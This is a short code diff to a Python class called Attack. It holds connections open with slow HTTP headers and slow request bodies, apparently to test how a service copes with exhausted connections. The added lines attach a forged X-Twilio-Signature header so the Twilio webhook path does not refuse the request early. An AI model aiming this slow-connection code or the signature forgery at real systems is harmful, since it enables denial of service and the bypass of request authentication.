@@ -34,8 +34,10 @@ class Attack:
                 self._open("slow_headers").sendall(
                     f"GET /healthz HTTP/1.1\r\nHost: {self.host_header}\r\nX-Wait: ".encode())
             for _ in range(self.counts["slow_body"]):
+                # Signed (falsely): a webhook without the field is refused before its body.
                 self._open("slow_body").sendall(
                     f"POST /twilio/messages HTTP/1.1\r\nHost: {self.host_header}\r\n"
+                    "X-Twilio-Signature: c2lnbmVk\r\n"
                     "Content-Type: application/x-www-form-urlencoded\r\n"
                     "Content-Length: 100000\r\n\r\nFro".encode())
         except BaseException:
